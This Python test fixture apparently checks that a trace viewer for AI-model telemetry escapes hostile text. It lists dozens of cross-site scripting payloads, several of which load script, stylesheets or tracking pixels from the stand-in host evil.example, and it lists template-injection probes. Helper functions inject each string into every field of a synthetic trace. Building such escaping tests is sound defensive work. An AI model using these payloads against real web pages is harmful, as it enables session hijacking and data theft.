"""What people and models may say to take over the page of who reads it, and a trace that says it everywhere."""

from __future__ import annotations

import json

from tests import make
from tests.make import Message

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<ScRiPt >window.pwned=1</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.pwned=1>",
    '"><img src=x onerror=window.pwned=1>',
    "'><img src=x onerror=window.pwned=1>",
    "`><img src=x onerror=window.pwned=1>",
    '" onmouseover="window.pwned=1" x="',
    "' onfocus=window.pwned=1 autofocus x='",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.pwned=1'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<iframe src=javascript:window.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=javascript:window.pwned=1>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<body onload=window.pwned=1>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<textarea></textarea><script>window.pwned=1</script>",
    "<title></title><script>window.pwned=1</script>",
    "<!--><script>window.pwned=1</script>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<div data-hx-on:load='window.pwned=1'>x</div>",
    "[x](javascript:window.pwned=1)",
    "[x](java\tscript:window.pwned=1)",
    "![x](//evil.example/pixel.png)",
    "[x]: javascript:window.pwned=1\n\n[x]",
    "<a href='data:text/html,<script>window.pwned=1</script>'>x</a>",
    "javascript:window.pwned=1",
    "\u202e<img src=x onerror=window.pwned=1>\u2066",
    "{{constructor.constructor('window.pwned=1')()}}",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
)

TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config}}",
    "{% for x in y %}",
    "{{''.__class__}}",
    "#set($x=7*7)",
)


def everywhere(text: str) -> list[Message]:
    """The spans of one trace that say a text in every place that a reader may see."""
    parts = [
        {"type": "text", "content": text},
        {"type": "tool_call", "id": text, "name": text, "arguments": {text: text}},
        {"type": "tool_call_response", "id": text, "response": text},
        {"type": "uri", "uri": text, "mime_type": "image/png"},
        {"type": text, "content": text},
    ]
    said = json.dumps([{"role": text, "parts": parts, "finish_reason": text}])
    trace = make.new_trace_id()
    common: dict[str, make.Value] = {
        "session.id": text, "user.id": text, "tag.tags": [text], "metadata": json.dumps({text: text}),
        "deployment.environment.name": text, "service.version": text, text: text, "deep": {text: [text, {text: text}]},
    }  # fmt: skip
    call = make.span(text, trace=trace, having={
        **common, "gen_ai.operation.name": "chat", "gen_ai.request.model": text, "gen_ai.provider.name": text,
        "gen_ai.response.finish_reasons": [text], "gen_ai.input.messages": said, "gen_ai.output.messages": said,
        "gen_ai.system_instructions": json.dumps([{"type": "text", "content": text}]),
        "gen_ai.tool.definitions": json.dumps([{"name": text, "description": text, "parameters": {text: text}}]),
        "llm.prompt_template.template": text, "llm.prompt_template.variables": json.dumps({text: text}),
    })  # fmt: skip
    call["status"] = {"code": 2, "message": text}
    stated = {"exception.type": text, "exception.message": text, "exception.stacktrace": text, text: text}
    attributes = [{"key": key, "value": {"stringValue": value}} for key, value in stated.items()]
    call["events"] = [{"name": name, "timeUnixNano": "1", "attributes": attributes} for name in ("exception", text)]
    tool = make.span(text, trace=trace, parent=call["spanId"], having={
        **common, "openinference.span.kind": "TOOL", "tool.name": text, "input.value": text, "output.value": text,
        "input.mime_type": text, "tool.description": text,
    })  # fmt: skip
    found = make.span(text, trace=trace, parent=call["spanId"], having={
        **common, "openinference.span.kind": "RETRIEVER", "input.value": text,
        "retrieval.documents.0.document.content": text, "retrieval.documents.0.document.id": text,
        "retrieval.documents.0.document.metadata": json.dumps({text: text}),
    })  # fmt: skip
    return [call, tool, found]


def request_of(text: str, spans: list[Message]) -> Message:
    """The request that carries them: resource and scope say it too."""
    value = {"stringValue": text}
    resource = {"attributes": [{"key": key, "value": value} for key in ("service.name", text)]}
    scope = {"scope": {"name": text, "version": text}, "spans": spans}
    return {"resourceSpans": [{"resource": resource, "scopeSpans": [scope]}]}
